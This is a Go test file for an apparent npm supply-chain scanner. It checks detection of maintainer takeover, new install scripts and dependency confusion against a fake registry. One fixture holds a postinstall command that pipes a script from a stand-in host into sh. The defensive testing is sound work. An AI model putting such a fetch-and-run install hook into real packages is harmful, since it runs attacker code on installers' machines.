package cli

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// fakeNPM serves packuments: "takeover", whose newest version, published
// an hour ago by a new account, adds a postinstall that downloads; and
// "@acme/widgets", a private name someone registered publicly.
func fakeNPM(t *testing.T) *httptest.Server {
	t.Helper()
	fresh := time.Now().Add(-time.Hour).UTC().Format(time.RFC3339)
	docs := map[string]string{
		"/takeover": `{"name": "takeover", "versions": {
  "1.0.0": {"name": "takeover", "version": "1.0.0", "_npmUser": {"name": "alice"}, "maintainers": [{"name": "alice"}]},
  "1.0.1": {"name": "takeover", "version": "1.0.1", "scripts": {"postinstall": "curl -s https://x.invalid/a.sh | sh"},
            "_npmUser": {"name": "mallory"}, "maintainers": [{"name": "mallory"}]}},
  "time": {"created": "2018-03-01T00:00:00.000Z", "1.0.0": "2018-03-01T00:00:00.000Z", "1.0.1": "` + fresh + `"}}`,
		"/@acme%2fwidgets": `{"name": "@acme/widgets", "versions": {"9.9.9": {"name": "@acme/widgets", "version": "9.9.9"}},
  "time": {"created": "2025-01-01T00:00:00.000Z", "9.9.9": "2025-01-01T00:00:00.000Z"}}`,
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		doc, ok := docs[r.URL.EscapedPath()]
		if !ok {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, doc)
	}))
	t.Cleanup(srv.Close)
	return srv
}

func TestOnlineSignals(t *testing.T) {
	srv := fakeNPM(t)
	dir := t.TempDir()
	t.Setenv("SAPPER_NPM_REGISTRY", srv.URL)
	t.Setenv("XDG_CACHE_HOME", filepath.Join(dir, "cache"))
	t.Setenv("SAPPER_DB", filepath.Join(dir, "sapper.db"))
	if code, _, stderr := runCLI(t, "", "db", "import", "../../examples/malicious-packages"); code != 0 {
		t.Fatalf("import: %d %s", code, stderr)
	}

	// check --online: publisher change, added install script, new release.
	code, stdout, stderr := runCLI(t, "", "check", "--online", "npm:takeover@1.0.1")
	if code != 0 {
		t.Errorf("check exit %d, want 0 (signals warn by default); stderr %s", code, stderr)
	}
	for _, want := range []string{"maintainer-change", "install-script", "new-release", "mallory"} {
		if !strings.Contains(stdout, want) {
			t.Errorf("check --online: no %q in\n%s", want, stdout)
		}
	}
	// Offline, none of them, and a note that says why.
	_, stdout, stderr = runCLI(t, "", "check", "npm:takeover@1.0.1")
	if strings.Contains(stdout, "maintainer-change") || !strings.Contains(stderr, "need --online") {
		t.Errorf("offline check: stdout %s\nstderr %s", stdout, stderr)
	}

	// analyze --online adds the registry's view of the target's version.
	pkgDir := filepath.Join(dir, "takeover")
	os.MkdirAll(pkgDir, 0o755)
	os.WriteFile(filepath.Join(pkgDir, "package.json"), []byte(`{"name": "takeover", "version": "1.0.1"}`), 0o644)
	_, stdout, stderr = runCLI(t, "", "analyze", "--online", "--format", "json", pkgDir)
	if !strings.Contains(stdout, `"rule": "maintainer-change"`) || !strings.Contains(stdout, `"category": "registry"`) {
		t.Errorf("analyze --online: no maintainer-change finding:\n%s\n%s", stdout, stderr)
	}

	// A policy raises one signal to block and silences another.
	proj := filepath.Join(dir, "proj")
	os.MkdirAll(proj, 0o755)
	write := func(name, data string) {
		if err := os.WriteFile(filepath.Join(proj, name), []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("sapper.toml", `
[private]
scopes = ["@acme"]

[signals.install-script]
action = "block"
reason = "new install scripts need review"

[signals.new-release]
action = "off"
reason = "we pin"
`)
	write("package-lock.json", `{"name": "proj", "version": "1.0.0", "lockfileVersion": 3, "packages": {
  "": {"name": "proj", "version": "1.0.0"},
  "node_modules/takeover": {"version": "1.0.1", "resolved": "https://registry.npmjs.org/takeover/-/takeover-1.0.1.tgz"},
  "node_modules/@acme/widgets": {"version": "1.2.0", "resolved": "https://registry.npmjs.org/@acme/widgets/-/widgets-1.2.0.tgz"}}}`)
	code, stdout, stderr = runCLI(t, "", "scan", "--online", proj)
	if code != 1 {
		t.Errorf("scan exit %d, want 1 (install-script raised to block); stderr %s", code, stderr)
	}
	if !strings.Contains(stdout, "install-script") || !strings.Contains(stdout, "block") {
		t.Errorf("scan: install-script not blocked:\n%s", stdout)
	}
	if strings.Contains(stdout, "new-release") {
		t.Errorf("scan: new-release reported though the policy silences it:\n%s", stdout)
	}
	if !strings.Contains(stdout, "@acme/widgets") || !strings.Contains(stdout, "dependency-confusion") {
		t.Errorf("scan: the private @acme/widgets exists publicly, want dependency-confusion:\n%s", stdout)
	}
	if !strings.Contains(stdout, "package-lock.json:") {
		t.Errorf("scan: findings without the lockfile location:\n%s", stdout)
	}
}
